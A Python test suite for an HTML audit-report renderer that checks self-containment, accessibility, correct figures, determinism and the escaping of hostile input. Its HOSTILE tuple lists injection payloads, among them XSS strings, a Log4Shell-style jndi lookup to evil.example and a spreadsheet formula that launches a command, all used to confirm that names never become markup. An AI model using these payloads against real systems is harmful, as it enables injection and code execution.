"""The page: the same figures, well formed, of one piece, closed to the outside, and harmless whatever names hold."""

from __future__ import annotations

import base64
import hashlib
import os
import re
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.html.figures import figures
from reports.html.narrowing import narrowed
from reports.html.page import policy, render_page
from reports.model import AuditView
from tests.reports.html.cities import AT, made_up, name, trend
from tests.reports.html.reading import Element, read, rows, shape

NOW = AT + timedelta(hours=1)
HOSTILE = (
    "<script>alert(1)</script>",
    "</td></table><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' style='background:url(//evil.example/x)",
    "{{ 7*7 }}{% raw %}",
    "javascript:alert(1)",
    "&lt;b&gt;&amp;&#60;",
    "]]><!-- --><![CDATA[",
    "\x1b[31m\x00\r\n\x07名称",
    "正常\u202e倒序\u2066\u200b\ufeff",
    "𠮷野家𠮷",
    "长" * 200,
    "W" * 200,
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "\ud800半个字符\uffff",
)


@pytest.fixture(scope="module")
def view() -> AuditView:
    return made_up(30, 300)


@pytest.fixture(scope="module")
def text(view: AuditView) -> str:
    return render_page(view, NOW, trend=trend())


@pytest.fixture(scope="module")
def page(text: str) -> Element:
    return read(text)


# --- of one piece -------------------------------------------------------------------------------------------


def test_nothing_leads_outside(text: str, page: Element) -> None:
    assert not re.search(r"https?:|//[a-z]|@import|@font-face|\bsrc=|\bsrcset=|url\((?!#)", text)
    ids = [one.attributes["id"] for one in page.all() if "id" in one.attributes]
    assert len(ids) == len(set(ids))
    targets = [one.attributes["href"] for one in page.all() if "href" in one.attributes]
    assert len(targets) == 10
    assert {target[1:] for target in targets} <= set(ids)
    assert all(target.startswith("#") for target in targets)
    painted = {v[5:-1] for one in page.all() for v in one.attributes.values() if v.startswith("url(#")}
    assert painted == {"paint-unknown", "paint-missing"} and painted <= set(ids)


def test_nothing_runs_and_nothing_is_fetched(page: Element) -> None:
    names = {one.name for one in page.all()}
    assert not names & {"script", "img", "image", "iframe", "object", "embed", "link", "form", "input", "base", "use"}
    attributes = {key for one in page.all() for key in one.attributes}
    assert not {key for key in attributes if key.startswith("on")} | (
        attributes & {"style", "background", "xlink:href"}
    )
    (style,) = page.all("style")
    digest = base64.b64encode(hashlib.sha256(style.text.encode()).digest()).decode()
    (told,) = [one.attributes["content"] for one in page.all("meta") if "http-equiv" in one.attributes]
    assert told == policy()
    assert told == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    # Before anything that it rules.
    metas = [one.attributes for one in page.all("head")[0].children]
    assert [list(one) for one in metas[:2]] == [["charset"], ["http-equiv", "content"]]


def test_it_can_be_read_by_everybody(page: Element) -> None:
    assert page.attributes == {"lang": "zh-CN"}
    for table in page.all("table"):
        assert table.children[0].name == "caption" and table.children[0].text
        assert {head.attributes["scope"] for head in table.all("th")} <= {"col", "row"}
        assert all(row.children[0].name == "th" for row in table.all("tbody")[0].children)
    for drawing in page.all("svg"):
        if drawing.attributes.get("role") == "img":
            assert len(drawing.attributes["aria-label"]) > 10
            assert drawing.inside("figure") and drawing.all("title")[0].text and drawing.all("desc")[0].text
        elif not drawing.inside("svg"):
            assert drawing.attributes["aria-hidden"] == "true"
    levels = [int(one.name[1]) for one in page.all() if re.fullmatch(r"h\d", one.name)]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    sections = page.all("section")
    assert all(one.attributes["aria-labelledby"] == f"{one.attributes['id']}-title" for one in sections)


def contrast(first: str, second: str) -> float:
    """As WCAG has it."""

    def light(colour: str) -> float:
        parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
        linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    high, low = sorted((light(first), light(second)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def test_words_stand_out_from_what_is_behind_them(page: Element) -> None:
    style = page.all("style")[0].text
    named = dict(re.findall(r"--(\w+): (#[0-9a-f]{6})", style))
    white = "#ffffff"
    for colour in ("ink", "soft", "brand", "bad"):
        assert contrast(named[colour], white) >= 4.5, colour
        assert contrast(named[colour], named["pale"]) >= 4.5, colour
    for background, colour in re.findall(
        r"^b\.\w+ \{ background: (#[0-9a-f]{6}); color: var\(--(\w+)\)", style, re.M
    ):
        assert contrast(named[colour], background) >= 4.5, colour
    assert contrast(named["brand"], white) >= 7


# --- the figures --------------------------------------------------------------------------------------------


def test_what_is_shown_large(view: AuditView, page: Element) -> None:
    told = figures(view, NOW)
    hero = next(one for one in page.all("div") if one.attributes.get("class") == "hero")
    assert told.total.rate_words in hero.text
    assert f"已上云{told.total.on_cloud}个÷纳入范围{told.total.in_scope}个" in hero.text
    assert f"其中{told.total.not_told}个无法判定" in hero.text and f"另有{told.total.excluded}个不纳入" in hero.text
    keys = {one.all("dt")[0].text: one.all("dd")[0].text for one in page.all("dl")[0].children}
    assert keys == {
        "未销号问题": str(told.total.live),
        "未登记的机房和网络": str(sum(p.origin == "inferred" for p in (*told.rooms, *told.networks))),
        "等保测评、密评到期或没有": str(
            sum(told.papers.counts[p][s] for p in ("assessment", "crypto") for s in ("expired", "missing"))
        ),
        "在办整改案件": str(told.cases.open),
        "完整覆盖的探测": f"{told.scans.covered}/{len(told.scans.rows)}",
        "无法判定的事项": str(told.untold.number),
    }
    assert "没有看到的，既不认定为违规，也不视为合规" in page.text


def test_every_department_with_its_numbers(view: AuditView, page: Element) -> None:
    found = rows(page, "各部门上云率")
    assert len(found) == 30
    for row, one in zip(found, figures(view, NOW).departments, strict=True):
        assert one.account.name in row["部门"]
        assert row["上云率"] == (one.account.rate_words if one.account.in_scope else "—")
        told = [row[key] for key in ("纳入范围", "已上云", "未上云", "无法判定", "未销号问题", "在办案件", "逾期")]
        account = one.account
        numbers = (account.in_scope, account.on_cloud, account.off_cloud, account.not_told, account.live)
        assert told == [str(n) for n in (*numbers, one.cases, one.overdue)]
    lowest = [row["部门"] for row in rows(page, "上云率最低的")]
    assert len(lowest) == 15
    assert lowest[0] == [row["部门"] for row in found if row["上云率"] != "—"][-1]


def test_bars_are_as_long_as_their_figures(page: Element) -> None:
    (table,) = [one for one in page.all("table") if one.all("caption")[0].text.startswith("各部门上云率")]
    for row in table.all("tbody")[0].children:
        on, unknown, off = (int(row.children[place].text) for place in (4, 6, 5))
        widths = {r.attributes["fill"]: float(r.attributes["width"][:-1]) for r in row.all("rect")}
        whole = on + off + unknown
        wanted = {"#1d6fb8": on, "url(#paint-unknown)": unknown, "#c8511b": off}
        assert widths == {
            paint: pytest.approx(100 * number / whole, abs=0.01) for paint, number in wanted.items() if number
        }


def test_nought_unknown_and_missing_look_different(audit: AuditView) -> None:
    page = read(render_page(audit, NOW))
    table = next(t for t in page.all("table") if t.all("caption")[0].text == "机房明细")
    marks = {
        row.children[0].text: [
            (cell.text, cell.children[0].attributes["class"] if cell.children else "") for cell in row.children
        ]
        for row in table.all("tbody")[0].children
    }
    assert ("没有", "bad") in marks["民政局三楼机房"]
    assert ("不明", "faint") in marks["交通运输局（推断机房）"]
    severities = rows(page, "问题，按严重程度和状态")
    assert severities[0] == {
        "严重程度": "特别严重",
        "未销号": "",
        **dict.fromkeys(("未整改", "再次发现", "待复核", "已豁免", "已排除", "已销号"), "0"),
    }
    # A department without a system in scope has no rate, which is not a rate of nought.
    bare = replace(audit, systems=tuple(s for s in audit.systems if s.department_id != "czj"))
    found = {row["部门"]: row["上云率"] for row in rows(read(render_page(bare, NOW)), "各部门上云率")}
    assert next(rate for words, rate in found.items() if "财政局" in words) == "—"


def test_a_city_without_anything_is_told_as_such(audit: AuditView) -> None:
    nothing: dict[str, Any] = dict.fromkeys(
        ("departments", "findings", "counts", "unknowns", "probes", "systems", "assets", "rules", "conflicts"), ()
    )
    page = read(render_page(replace(audit, **nothing, complete=True), NOW))
    for words in ("没有整改案件", "没有进行探测", "既没有登记，也没有发现", "没有未销号的问题"):
        assert words in page.text


def test_by_whom_for_whom_when_and_from_what(view: AuditView) -> None:
    page = read(render_page(view, NOW, for_whom="示例市人民政府办公室"))
    facts = [one.text for one in page.all("header")[0].all("li")]
    assert facts == [
        "数据截至2026年11月22日",
        "范围：全部部门",
        f"制作单位：{view.bureau}",
        "供示例市人民政府办公室使用",
        "制作时间：2026-11-23 00:05",
        f"快照：{view.snapshot}",
    ]
    assert "本次审计有部分范围未覆盖" in page.all("header")[0].text
    assert "涉密系统不在统计之列" in page.text


def test_a_trend_is_drawn_where_there_is_one(view: AuditView) -> None:
    captions = [
        [one.text for one in read(p).all("figcaption")]
        for p in (
            render_page(view, NOW, trend=trend()),
            render_page(view, NOW, trend=trend()[:1]),
            render_page(view, NOW),
        )
    ]
    assert ["上云率的变化" in one for one in captions] == [True, False, False]


# --- harmless -----------------------------------------------------------------------------------------------


def renamed(view: AuditView, give: Callable[[str], str]) -> AuditView:
    """The view with every text from outside given by ``give``, which is handed the text that was there."""

    def each(items: Any, *names: str) -> Any:
        return tuple(replace(one, **{key: give(getattr(one, key)) for key in names}) for one in items)

    assets = each(view.assets, "name", "department_name")
    words = ("product", "list_announcement", "approval_no", "name")
    return replace(
        view,
        site=give(view.site),
        bureau=give(view.bureau),
        departments=each(view.departments, "name"),
        findings=each(view.findings, "asset_name", "department_name", "title"),
        counts=each(view.counts, "title"),
        unknowns=each(view.unknowns, "asset_name", "department_name"),
        probes=tuple(replace(p, problems=tuple(map(give, p.problems))) for p in each(view.probes, "zone_name")),
        systems=each(view.systems, "name", "department_name"),
        assets=tuple(
            replace(a, values={k: give(v) if k in words and isinstance(v, str) else v for k, v in a.values.items()})
            for a in assets
        ),
        conflicts=tuple(map(give, view.conflicts)),
        rules=each(view.rules, "title"),
        cases=each(view.cases, "number", "department_name"),
        regulations=each(view.regulations, "title", "number"),
    )


@pytest.mark.parametrize("words", HOSTILE)
def test_no_name_becomes_markup(words: str) -> None:
    view = made_up(6, 40)
    # The text that was there stays behind it, so that what is told once for each name stays as often.
    plain = read(render_page(renamed(view, lambda told: f"名{told}"), NOW))
    page = render_page(renamed(view, lambda told: f"{words}{told}" if len(words) < 50 else words), NOW)
    hostile = read(page)
    if len(words) < 50:
        assert shape(hostile) == shape(plain)
    else:
        assert set(shape(hostile)) <= set(shape(plain))
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]", page
    )
    assert max(len(cell.text) for cell in hostile.all("th")) < 400
    page.encode()


@settings(max_examples=25, deadline=None)
@given(st.text(min_size=1, max_size=60))
def test_whatever_a_name_holds_the_page_stays_well_formed(words: str) -> None:
    view = made_up(2, 8, rules=4, systems=2)
    plain = read(render_page(renamed(view, lambda told: f"名{told}"), NOW))
    assert shape(read(render_page(renamed(view, lambda told: f"{words}{told}"), NOW))) == shape(plain)


def test_there_is_no_address_on_it(view: AuditView) -> None:
    assert any(re.match(r"10\.", one.asset_name) for one in view.findings)
    for made in (
        render_page(view, NOW),
        render_page(narrowed(view, "d8", {"z8": "农业农村办公网8"}), NOW, department=name(8)),
    ):
        words = read(made).text
        assert not re.search(r"\d+\.\d+\.\d+\.\d+", words)
        assert "〔地址略〕" in words


def test_a_departments_page_tells_of_no_other(view: AuditView) -> None:
    marked = _marked(view)
    for department in ("d3", "d8", "d29"):
        own = narrowed(marked, department, {f"z{department[1:]}": f"办公网〈{department}〉"})
        made = render_page(own, NOW, department=f"某局〈{department}〉")
        assert set(re.findall(r"〈(\w+)〉", made)) == {department}
        page = read(made)
        assert "部门排名" not in page.text and "范围：仅某局" in page.text
        assert f"供某局〈{department}〉使用" in page.text
        systems = rows(page, "信息系统")
        assert len(systems) == sum(s.department_id == department for s in view.systems)


def _marked(view: AuditView) -> AuditView:
    """Every text that tells of a department bears its id."""

    def each(items: Any, *names: str) -> Any:
        return tuple(
            replace(one, **{key: f"{getattr(one, key)}〈{one.department_id}〉" for key in names}) for one in items
        )

    return replace(
        view,
        departments=tuple(replace(d, name=f"{d.name}〈{d.id}〉") for d in view.departments),
        findings=each(view.findings, "asset_name", "department_name", "reason"),
        unknowns=each(view.unknowns, "asset_name", "department_name"),
        probes=tuple(
            replace(p, zone_name=f"{p.zone_name}〈d{p.zone[1:]}〉", problems=(f"超时〈d{p.zone[1:]}〉",))
            for p in view.probes
        ),
        systems=each(view.systems, "name", "department_name"),
        assets=tuple(
            replace(a, values={**a.values, "product": f"产品〈{a.department_id}〉"})
            for a in each(view.assets, "name", "department_name")
        ),
        conflicts=tuple(f"{words}〈d0〉" for words in view.conflicts),
        cases=each(view.cases, "number", "department_name", "note", "addressee"),
    )


# --- the same bytes, and not too many -----------------------------------------------------------------------

_SCRIPT = """
import hashlib
from reports.html.page import render_page
from tests.reports.html.cities import AT, made_up, trend
print(hashlib.sha256(render_page(made_up(30, 300), AT, trend=trend()).encode()).hexdigest())
"""


def test_the_same_view_gives_the_same_bytes(view: AuditView) -> None:
    here = hashlib.sha256(render_page(view, AT, trend=trend()).encode()).hexdigest()
    # Another process with another order of sets.
    root = Path(__file__).resolve().parents[3]
    done = subprocess.run(
        [sys.executable, "-c", _SCRIPT],
        capture_output=True,
        text=True,
        check=True,
        cwd=root,
        env={**os.environ, "PYTHONHASHSEED": "7"},
    )
    assert done.stdout.strip() == here
    assert render_page(view, NOW) != render_page(view, AT)


def test_five_hundred_departments_fit() -> None:
    view = made_up(500, 12_000, rules=190, systems=20, components=40)
    start = time.perf_counter()
    made = render_page(view, NOW, trend=trend())
    took = time.perf_counter() - start
    assert len(made.encode()) < 2_000_000
    assert took < 15
    page = read(made)
    assert len(rows(page, "各部门上云率")) == 500
    # What is long is folded.
    for table in page.all("table"):
        if len(table.all("tbody")[0].children) > 25 and "缺少的信息" not in table.all("caption")[0].text:
            assert table.inside("details"), table.all("caption")[0].text
